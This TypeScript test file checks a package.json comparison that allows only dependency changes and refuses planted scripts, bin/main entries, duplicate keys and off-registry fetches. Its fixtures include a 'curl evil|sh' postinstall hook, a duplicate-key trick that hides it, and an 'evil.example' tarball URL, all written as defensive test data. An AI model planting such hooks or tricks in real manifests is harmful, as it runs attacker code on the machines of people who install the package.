import { test } from 'node:test';
import assert from 'node:assert/strict';
import { compareManifest } from '../../../src/stage/manifest.js';
import { parseStrictJson } from '../../../src/stage/strict-json.js';

const lower = JSON.stringify({ name: 'app', version: '1.0.0', scripts: { test: 'node t' }, dependencies: { a: '^1.0.0' } }, null, 2);

test('an install that adds and updates dependencies passes, whatever the formatting', () => {
  const upper = JSON.stringify({ version: '1.0.0', name: 'app', scripts: { test: 'node t' }, dependencies: { a: '^1.2.0', b: '^2.0.0' }, devDependencies: { c: '1' } });
  const v = compareManifest(lower, upper);
  assert.deepEqual(v, { ok: true, changedKeys: ['dependencies', 'devDependencies'] });
});

test('a planted scripts.postinstall is refused and named', () => {
  const upper = JSON.stringify({ name: 'app', version: '1.0.0', scripts: { test: 'node t', postinstall: 'curl evil|sh' }, dependencies: { a: '^1.0.0', b: '1' } });
  const v = compareManifest(lower, upper);
  assert.equal(v.ok, false);
  assert.match((v as { reason: string }).reason, /outside the dependency sections: "scripts"/);
});

test('main, bin and other keys are refused too', () => {
  const upper = JSON.stringify({ name: 'app', version: '1.0.0', scripts: { test: 'node t' }, dependencies: { a: '^1.0.0' }, main: 'evil.js', bin: { x: 'evil.js' } });
  const v = compareManifest(lower, upper);
  assert.match((v as { reason: string }).reason, /"bin", "main"/);
});

test('every dependency section may change, overrides and both bundle spellings included', () => {
  const upper = JSON.stringify({
    name: 'app', version: '1.0.0', scripts: { test: 'node t' }, dependencies: {},
    optionalDependencies: { o: '1' }, peerDependencies: { p: '1' }, overrides: { q: { r: '1' } },
    bundleDependencies: ['o'], bundledDependencies: ['o'],
  });
  assert.equal(compareManifest(lower, upper).ok, true);
});

test('invalid JSON is refused, in the staged file or in the project', () => {
  assert.match((compareManifest(lower, '{"name": ') as { reason: string }).reason, /not valid JSON/);
  assert.match((compareManifest(lower, '[1]') as { reason: string }).reason, /not a JSON object/);
  assert.match((compareManifest('{oops', '{}') as { reason: string }).reason, /project's own package.json is not valid JSON/);
});

test('a key given twice is refused: JSON.parse would show the harmless last one, other tools run the first', () => {
  const upper = '{"name":"app","version":"1.0.0","scripts":{"postinstall":"curl evil|sh"},"scripts":{"test":"node t"},"dependencies":{"a":"^1.0.0"}}';
  const v = compareManifest(lower, upper);
  assert.equal(v.ok, false);
  assert.match((v as { reason: string }).reason, /appears twice/);
});

test('a package.json created where there was none may hold only dependency sections', () => {
  assert.equal(compareManifest(null, '{"dependencies":{"a":"1"}}').ok, true);
  assert.equal(compareManifest(null, '{"dependencies":{"a":"1"},"scripts":{"x":"y"}}').ok, false);
});

test('with registry hosts, a changed dependency that fetches from elsewhere is refused', () => {
  const hosts = ['registry.npmjs.org'];
  const up = (spec: string) => JSON.stringify({ name: 'app', version: '1.0.0', scripts: { test: 'node t' }, dependencies: { a: '^1.0.0', b: spec } });
  assert.equal(compareManifest(lower, up('^2.0.0'), hosts).ok, true);
  assert.equal(compareManifest(lower, up('npm:other@1'), hosts).ok, true);
  assert.equal(compareManifest(lower, up('file:../b'), hosts).ok, true);
  assert.equal(compareManifest(lower, up('https://registry.npmjs.org/b/-/b-1.tgz'), hosts).ok, true);
  assert.match((compareManifest(lower, up('https://evil.example/b.tgz'), hosts) as { reason: string }).reason, /evil\.example/);
  assert.match((compareManifest(lower, up('git+ssh://git@github.com/x/y.git'), hosts) as { reason: string }).reason, /github\.com/);
  assert.match((compareManifest(lower, up('evil/repo'), hosts) as { reason: string }).reason, /github\.com/);
  // an unchanged specifier is the user's own choice
  const lowerGit = JSON.stringify({ dependencies: { g: 'github:x/y' } });
  assert.equal(compareManifest(lowerGit, JSON.stringify({ dependencies: { g: 'github:x/y', h: '1' } }), hosts).ok, true);
});

test('the strict reader: __proto__ is an ordinary key, deep nesting is bounded, escapes are decoded', () => {
  const p = parseStrictJson('{"__proto__": {"x": 1}, "a\\u0041": "\\n"}');
  assert.equal(p.ok, true);
  const v = (p as { value: Record<string, unknown> }).value;
  assert.deepEqual(Object.keys(v), ['__proto__', 'aA']);
  assert.equal(Object.getPrototypeOf(v), null);
  assert.equal(parseStrictJson('['.repeat(10000)).ok, false);
  assert.equal(parseStrictJson('{"a":1,"\\u0061":2}').ok, false, 'the same key spelled with an escape');
  assert.equal(parseStrictJson('\ufeff{"a":1}').ok, true);
  assert.equal(parseStrictJson('{"a":01}').ok, false);
  assert.equal(parseStrictJson('{"a":1} x').ok, false);
});

test('a section the command may change (allowScripts for npm install-scripts approve) is kept; others still are not', () => {
  const lower = '{"name":"a","dependencies":{"x":"1"}}';
  const approved = '{"name":"a","dependencies":{"x":"1"},"allowScripts":{"x":true}}';
  assert.equal(compareManifest(lower, approved).ok, false, 'not for an ordinary install');
  assert.equal(compareManifest(lower, approved, undefined, ['allowScripts']).ok, true);
  const planted = '{"name":"a","dependencies":{"x":"1"},"allowScripts":{"x":true},"scripts":{"postinstall":"evil"}}';
  const v = compareManifest(lower, planted, undefined, ['allowScripts']);
  assert.equal(v.ok, false);
  assert.match(v.ok ? '' : v.reason, /"scripts"/);
});
